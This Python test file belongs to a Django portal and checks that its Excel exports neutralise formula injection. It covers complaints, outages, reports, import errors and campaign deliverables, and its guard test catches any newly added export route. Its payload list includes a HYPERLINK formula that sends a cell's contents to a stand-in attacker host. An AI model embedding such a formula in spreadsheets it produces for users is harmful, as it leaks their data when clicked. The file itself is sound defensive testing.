"""Every .xlsx the portal hands out is inert: text that looks like a formula (pushed by any system account,
typed into a name or an outage reason) is read back as text, never as a formula cell (OWASP CSV injection).

The exports are found from the URL resolver (every route whose view writes through `xlsx_response`), so an
export added later is checked too — the list below must name it or the guard test fails.
"""

import io
import re
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.excel import Column, write_xlsx
from reporting.models import ReportJob
from tests.complaints.factories import push, recent
from tests.outages.factories import OutageNoticeFactory

PAYLOADS = ["=1+1", "+1", "-1", "@SUM(1)", '=HYPERLINK("http://evil.example/?"&A1,"click")', "\t=1+1", "\r=1+1"]


def cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_inert(content: bytes, must_contain=()) -> None:
    found = list(cells(content))
    formulas = [f"{c.coordinate}={c.value!r}" for c in found if c.data_type == "f"]
    assert not formulas, formulas
    # XML may store a CR as LF; otherwise the text reads back exactly as sent (else the test passes vacuously).
    texts = {c.value.replace("\r", "\n") for c in found if isinstance(c.value, str)}
    for payload in must_contain:
        assert any(payload.replace("\r", "\n") in t for t in texts), (payload, sorted(texts)[:20])


def test_the_writer_turns_no_text_into_a_formula_and_keeps_numbers():
    buf = io.BytesIO()
    rows = [{"text": p, "n": 7} for p in PAYLOADS]
    write_xlsx(
        buf,
        sheet="s",
        columns=[Column("=HEADER()", "text"), Column("数量", "n", "int")],
        rows=rows,
        title="=TITLE()",
    )
    assert_inert(buf.getvalue(), must_contain=[*PAYLOADS, "=HEADER()", "=TITLE()"])
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    assert [ws.cell(row=r, column=2).value for r in range(3, 3 + len(PAYLOADS))] == [7] * len(PAYLOADS)
    assert ws.cell(row=3, column=2).data_type == "n"  # a number column stays a number
    assert ws.cell(row=3, column=1).quotePrefix  # Excel keeps it text when the cell is edited


# Every route that answers an .xlsx, with how to reach it after the payloads are ingested.
EXPORTS = {
    "complaints:export": "/complaints/export.xlsx",
    "outages:export": "/outages/export.xlsx",
    "reporting:export": "/reports/export.xlsx",
    "reporting:table-export": "/reports/{job}/tables/t1.xlsx",
    "import-template": "/imports/template/complaints.tickets.xlsx",
    "import-errors": "/imports/{import_job}/errors.xlsx",
    "campaigns:deliverable-export": "/campaigns/deliverables/{deliverable}/export.xlsx",
}


def test_every_xlsx_route_is_checked():
    """A new export must be added to EXPORTS: found by the view functions that call xlsx_response."""
    import inspect

    from django.urls import URLPattern, URLResolver, get_resolver

    def walk(patterns, ns=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns, f"{ns}{p.namespace}:" if p.namespace else ns)
            elif isinstance(p, URLPattern) and p.name:
                yield f"{ns}{p.name}", p.callback

    found = set()
    for name, view in walk(get_resolver().url_patterns):
        try:
            source = inspect.getsource(inspect.unwrap(view))
        except (OSError, TypeError):
            continue
        if re.search(r"\bxlsx_response\(", source):
            found.add(name)
    assert found == set(EXPORTS), found ^ set(EXPORTS)


@pytest.mark.django_db
def test_every_export_reads_back_without_a_formula_cell(
    world, calendar, client_for, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from portal.imports import import_job_create

    system = world.user("system_x")
    for i, payload in enumerate(PAYLOADS[:4]):
        push(
            system,
            external_id=f"F-{i}",
            received_at=recent(1),
            content=payload,
            customer_name=payload,
            address=payload,
            region=payload,
        )
        OutageNoticeFactory(utility=world.county_x, reason=payload, area=payload, lines=payload)
    job = ReportJob.objects.create(
        kind="outage_compliance",
        series_key="s",
        title="=1+1",
        document_number="@SUM(1)",
        organisation=world.office_a,
        created_by=world.user("reg_staff_a"),
        tables=[
            {
                "key": "t1",
                "title": "-1",
                "columns": [["=1+1", "text"], ["n", "int"]],
                "rows": [[p, 3] for p in PAYLOADS],
            }
        ],
    )
    # An import whose rows are refused: the errors file repeats what was read, and names the file.
    upload = SimpleUploadedFile("=1+1.csv", "渠道,外部编号\n=1+1,+1\n@SUM(1),-1\n".encode(), content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        import_job = import_job_create(kind="complaints.tickets", file=upload, acting_user=world.user("manager_x"))
    reader = client_for(world.user("reg_admin_a"))
    manager = client_for(world.user("manager_x"))
    # Issue 11: a deliverable's filings (its title is the regulator's text).
    from campaigns.services import deliverable_save
    from tests.campaigns.factories import make_campaign

    deliverable = deliverable_save(
        campaign=make_campaign(world, code="EXP-1"),
        acting_user=world.user("reg_admin_a"),
        kind="other",
        title=PAYLOADS[0],
        due_date=date(2026, 10, 10),
    )
    expect = {
        "complaints:export": (reader, PAYLOADS[:4]),
        "outages:export": (reader, PAYLOADS[:4]),
        "reporting:export": (reader, ["=1+1", "@SUM(1)"]),
        "reporting:table-export": (reader, PAYLOADS),
        "import-template": (manager, []),
        "import-errors": (manager, ["=1+1.csv"]),
        "campaigns:deliverable-export": (reader, [PAYLOADS[0]]),
    }
    for name, url in EXPORTS.items():
        client, must = expect[name]
        response = client.get(url.format(job=job.pk, import_job=import_job.pk, deliverable=deliverable.pk))
        assert response.status_code == 200, (name, response.status_code)
        assert_inert(b"".join(response.streaming_content), must_contain=must)
